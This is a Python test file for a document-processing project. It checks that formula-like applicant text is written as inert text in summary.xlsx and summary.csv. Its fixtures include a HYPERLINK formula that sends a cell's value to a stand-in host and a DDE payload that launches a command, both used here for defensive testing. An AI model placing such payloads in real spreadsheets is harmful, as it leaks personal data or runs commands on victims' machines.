"""Applicant text that looks like a formula stays text in summary.xlsx and summary.csv (issue
#22: `=HYPERLINK("http://…"&H4)` in a unit's name sent another applicant's 身份证号 away)."""

from __future__ import annotations

from openpyxl import load_workbook

from shenbao.models import FieldResult, Finding, FindingCode, Result
from shenbao.pipeline.manifest import Manifest, ManifestEntry
from shenbao.reports import write_batch_summary
from shenbao.reports.spreadsheet_safety import inert_csv_cell

LINK = '=HYPERLINK("http://example.invalid/?"&H4,"点击查看")'
DDE = "+cmd|' /C calc'!A0"


def _results() -> list[Result]:
    fields = {
        "unit_name": FieldResult(value=LINK),
        "master_name": FieldResult(value="@SUM(1+1)"),
        "master_id_number": FieldResult(value="420106196709031795"),
        "studio_team_size": FieldResult(value=8),
        "contact_phone": FieldResult(value="-2+3"),
    }
    findings = [Finding.make(FindingCode.MISSING_FIELD, DDE, fields=["contact_name"])]
    return [Result(packet_id="=1+1", jurisdiction="changchun-2025", fields=fields, findings=findings)]


def _write(tmp_path):
    manifest = Manifest({"=1+1": ManifestEntry("=1+1", None, None, "=A1")}, [])
    write_batch_summary(tmp_path, _results(), manifest, [])
    return tmp_path


def test_no_cell_of_the_workbook_is_a_formula(tmp_path):
    out = _write(tmp_path)
    wb = load_workbook(out / "summary.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # the text itself is kept exactly
    assert any(LINK in t for t in texts)
    assert any(t == "@SUM(1+1)" for t in texts)


def test_csv_cells_that_start_like_a_formula_start_with_an_apostrophe(tmp_path):
    out = _write(tmp_path)
    text = (out / "summary.csv").read_bytes().decode("utf-8-sig")
    assert "'" + DDE in text
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text


def test_numbers_written_as_text_are_left_alone():
    assert inert_csv_cell("-12.5") == "-12.5"
    assert inert_csv_cell(3) == 3
    assert inert_csv_cell("-2+3") == "'-2+3"
    assert inert_csv_cell("张三") == "张三"
